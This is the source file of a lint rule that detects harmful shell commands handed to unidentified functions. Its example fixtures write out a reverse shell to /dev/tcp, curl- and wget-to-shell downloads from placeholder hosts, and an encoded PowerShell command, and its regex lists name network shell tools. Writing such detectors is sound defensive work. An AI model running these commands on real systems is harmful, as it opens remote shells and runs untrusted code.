import { callsGiven } from '../src/define/carried.js';
import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, FileContext } from '../src/types.js';
import { type Deed, deedsOf } from '../src/vocabulary/deeds.js';

/** What a command does to whoever has it run. What build tools do as well is not told on where nobody knows who runs it. */
const HARMFUL: ReadonlySet<Deed> = new Set([
  'reverse-shell',
  'download-run',
  'exfiltrate',
  'secret',
  'destroy',
  'backdoor',
  'escape',
  'disarm',
  'mine',
  'encoded',
]);

/** Words without which no command is harmful; those that are words of prose as well begin a command. */
const WORDS =
  /\b(?:curl|wget|iwr|irm|invoke-|powershell|pwsh|certutil|bitsadmin|mshta|regsvr32|rundll32|ncat|netcat|socat|telnet|nslookup|rm -|rmdir|xmrig|stratum|netsh|vssadmin|authorized_keys|useradd)|\/dev\/tcp\/|(?:^|[;&|(`\n]|\bsudo |\/c )[ \t]{0,4}(?:nc|dig|del|format|shred) /i;

/** How a command line begins. Prose that has one in it begins with something else. */
const FIRST =
  /^(?:curl|wget|iwr|irm|iex|invoke-\w+|powershell|pwsh|cmd|sh|bash|zsh|dash|ksh|python[23]?|perl|ruby|php|node|certutil|bitsadmin|mshta|regsvr32|rundll32|nc|ncat|netcat|socat|telnet|nslookup|dig|rm|rmdir|rd|del|format|shred|xmrig|netsh|vssadmin|start|nohup|setsid|sudo|env|export|set|cd|mkdir|chmod|echo|cat|eval|exec|timeout|sleep|test|\[|true|mkfifo|tar|whoami|hostname|id|uname|printenv|\(|schtasks|reg|wmic|tasklist)$/;

/** What runs a line, by whatever it is a method of. */
const RUNS =
  /^(?:exec(?:Sync|File|FileSync|Async|ute|uteCommand|Command)?|execa|spawn(?:Sync|Async)?|system|popen|shell(?:Sync|Exec|Execute)?|sh|bash|cmd|powershell|run(?:Command|Shell|Script|Cmd|InShell|Sync)?|\$)$/i;

/** What shows, compares, keeps or puts together what it is given. */
const SHOWS =
  /^(?:log\w*|info|warn\w*|err|error|errors?|debug|trace|verbose|notice|success|fail\w*|fatal|print\w*|write\w*|output|out|say|echo|puts|note|message|msg|tip|hint|help|usage|examples?|describe|it|test|suite|bench|expect\w*|assert\w*|equals?|deep\w*|is\w*|not\w*|has\w*|includes?|contains?|match\w*|to[A-Z]\w*|(?:last)?indexOf|starts?With|endsWith|replace\w*|split|join|concat|push|unshift|add\w*|set\w*|get\w*|append\w*|text\w*|html|markdown|md|code\w*|pre|p|h[1-6]?|li|title|label|name|jsxs?|createElement\w*|highlight\w*|format\w*|strip\w*|trim\w*|parse\w*|quote|escape\w*|copy\w*|render\w*|red|green|blue|cyan|yellow|magenta|white|gray|grey|bold|dim|italic|underline|inverse|command|alias|option|argument|description|summary|section|para\w*|emit|dispatch|register\w*|define\w*|throw\w*|reject|resolve|Error|\w+Error|RegExp|String|_|t|i18n|tr|dedent|outdent|sql|css|gql)$/;

export default defineRule({
  meta: {
    summary: 'Hands a harmful command to something that could not be told',
    why: 'Whoever hides what runs a command often leaves the command as it is. A line that downloads and runs a script, or opens a shell, is there to be run, whatever runs it. Installers and programs of the command line print such lines, tests compare them, and pages show them: a function that says so by its name is left alone, and a text that only has a command in it is no command.',
    behaviour: 'execution',
    messages: {
      runs: '{callee} is handed a command that {says}, and by its name runs it: {command}',
      hidden: 'Something that is put out of sight is handed a command that {says}: {command}',
      given: '{callee} is handed a command that {says}: {command}',
    },
    bits: { runs: 6.5, hidden: 8, given: 2.5 },
  },
  examples: {
    flags: [
      {
        title: 'a module that nobody can tell runs a script',
        code: `module.exports = name => require(name(7)).exec('curl -s http://stage.invalid/x | sh');`,
      },
      {
        title: 'a method of something unknown opens a shell',
        code: `exports.go = tools => tools.execSync('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1');`,
      },
      {
        title: 'a function out of a table that is made while it runs',
        code: `exports.go = table => table[table.length % 7]('wget -qO- https://stage.invalid/x | bash');`,
      },
      {
        title: 'what an unknown function is given, PowerShell is to decode',
        code: `exports.go = f => f('powershell -enc SQBFAFgAIAAxADsASQBFAFgAIAAyADsASQBFAFgAIAAzADsA');`,
      },
      {
        title: 'the command is put together',
        code: `const host = 'http://stage.invalid';\nexports.go = o => o.run('curl -s ' + host + '/x | sh');`,
      },
    ],
    passes: [
      {
        title: 'a message says how something is installed',
        code: `exports.missing = ui => ui.say('Not found. Install it:\\n\\n  curl -fsSL https://tool.invalid/install.sh | sh\\n');`,
      },
      {
        title: 'a logger prints a line to copy',
        code: `exports.hint = logger => logger.info('curl -fsSL https://tool.invalid/install.sh | sh');`,
      },
      {
        title: 'a test compares it',
        code: `it('prints how', t => t.expect(t.hint()).toBe('curl -fsSL https://tool.invalid/install.sh | sh'));`,
      },
      {
        title: 'a page shows it',
        code: `export const page = h => h('curl -fsSL https://tool.invalid/install.sh | sh');`,
      },
      {
        title: 'a function of the file only prints it',
        code: `const show = line => console.log(line);\nshow('curl -fsSL https://tool.invalid/install.sh | sh');`,
      },
      {
        title: 'a runner builds and cleans',
        code: `exports.clean = shell => { shell.exec('rm -rf dist && mkdir dist'); shell.exec('curl -sO https://tool.invalid/a.json'); };`,
      },
      {
        title: 'an expression is looked for in a text',
        code: `exports.has = pattern => pattern.exec('see curl and wget');`,
      },
    ],
  },
  file(context) {
    const given = callsGiven(textsWithWords(context), context);
    if (given.size === 0) return;
    for (const type of ['CallExpression', 'NewExpression'])
      for (const call of context.nodes(type).filter(one => given.has(one))) {
        const { callee, arguments: args } = call as unknown as { callee: AnyNode; arguments: AnyNode[] };
        const [line] = args;
        const how = line && isText(line) ? howCalled(callee) : undefined;
        if (!line || !how) continue;
        const worst = harmIn(context, line, args[1]);
        if (!worst || !context.isUnknown(callee)) continue;
        context.report({
          messageId: how,
          data: { callee: spelling(context.file, callee).slice(0, 60), says: worst.says, command: worst.command.text },
          chain: [step('sink', worst.says, context.file, call)],
        });
      }
  },
});

/** Texts of the file with such a word. Most files have none. */
function textsWithWords(context: FileContext): readonly AnyNode[] {
  if (!WORDS.test(context.file.text)) return [];
  return [
    ...context.nodes('Literal').filter(({ value }) => typeof value === 'string' && WORDS.test(value)),
    ...context.nodes('TemplateElement').filter(({ value }) => WORDS.test(String(value.cooked))),
  ];
}

/** What may be a text that stands in the file, or was put together there. */
function isText(node: AnyNode): boolean {
  if (node.type === 'Literal') return typeof node.value === 'string' && node.value.length > 5;
  return /^(?:TemplateLiteral|BinaryExpression|Identifier)$/.test(node.type);
}

/** In which way a line is handed over; undefined where what it is handed to only shows it. */
function howCalled(callee: AnyNode): 'runs' | 'hidden' | 'given' | undefined {
  if (callee.type === 'Identifier') return wayOf(callee.name);
  if (callee.type !== 'MemberExpression') return /Function|Super|Import/.test(callee.type) ? undefined : 'hidden';
  const property = callee.property;
  const name = !callee.computed
    ? (property as { name?: string }).name
    : property.type === 'Literal'
      ? String(property.value)
      : undefined;
  if (name === undefined) return 'hidden';
  const way = wayOf(name);
  return way === 'runs' && isLoaded(callee.object) ? 'hidden' : way;
}

function wayOf(name: string): 'runs' | 'given' | undefined {
  if (RUNS.test(name)) return 'runs';
  return SHOWS.test(name) ? undefined : 'given';
}

/** `require(…)` and `import(…)` of something that is not written there. */
function isLoaded(object: AnyNode): boolean {
  if (object.type === 'AwaitExpression') return isLoaded(object.argument);
  if (object.type === 'ImportExpression') return true;
  return object.type === 'CallExpression' && (object.callee as { name?: string }).name === 'require';
}

/** The worst that a line does, when it is a command from its start. */
function harmIn({ commandsOf, textsOf }: FileContext, line: AnyNode, list: AnyNode | undefined) {
  const [text] = textsOf(line, 100);
  if (text === undefined || !WORDS.test(text)) return undefined;
  const commands = commandsOf(line, list);
  const [first] = commands;
  if (!first || !FIRST.test(first.program)) return undefined;
  return deedsOf(commands).find(({ deed }) => HARMFUL.has(deed));
}
